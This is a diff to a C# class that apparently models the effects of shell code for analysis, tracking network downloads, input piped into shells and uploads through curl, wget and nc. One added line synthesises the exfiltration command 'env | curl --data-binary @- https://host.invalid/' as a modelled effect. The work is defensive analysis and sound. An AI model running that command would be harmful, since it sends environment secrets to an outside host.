@@ -55,6 +55,7 @@ internal sealed partial class CodeEffects
     {
         if (IsMuted || !FollowsValues || path.Text is not { } target) return;
         var all = CodeFlow.Origins(value);
+        if (all.Is(CodeTraits.Network)) Do(start, end, CodeValue.Of("curl"), CodeValue.Of("-o"), Located(path), all.Url?.Text is null ? CodeValue.Of("https://host.invalid/") : all.Url);
         if (all.File is not { } file || (all.Traits & (CodeTraits.Names | CodeTraits.Field)) != 0) return;
         var to = Located(path).Text ?? target;
         foreach (var from in file.Is(CodeTraits.AnyOf) ? file.Items! : [file])
@@ -76,6 +77,7 @@ internal sealed partial class CodeEffects
     /// <summary>The text is the input of a program that the code started.</summary>
     public void Feed(CodeValue[] program, CodeValue input, int start, int end)
     {
+        if (input.Text is null && input.Is(CodeTraits.Network) && program is [{ Text: { } reader }, ..] && IsShell(ShellPath.Leaf(reader)) && !IsMuted) Remote(input, start, end);
         if (program.Length == 0 || input.Text is not { Length: > 0 } fed || (fed.Length == 1 && CodeText.HasMark(fed)) || !Takes()) return;
         Add(new CodeCall(false, [.. Array.ConvertAll(program, ToWord)], text.Shown(start, end)) { Input = text.ToWord(fed) }, start);
     }
@@ -91,6 +93,7 @@ internal sealed partial class CodeEffects
             {
                 case "echo" or "printf" or "logger" or "wall" or "notify-send" or "say" or "osascript": Show(words[i], start, end); break;
                 case "curl" or "wget" or "nc" or "ncat" or "http" when words[i].File is { } file: Upload(file, CodeValue.Unknown, start, end); break;
+                case "curl" or "wget" or "nc" or "ncat" or "http" when CodeFlow.IsEnvironment(words[i]): AddShell("env | curl --data-binary @- https://host.invalid/", start, end); break;
             }
         }
     }
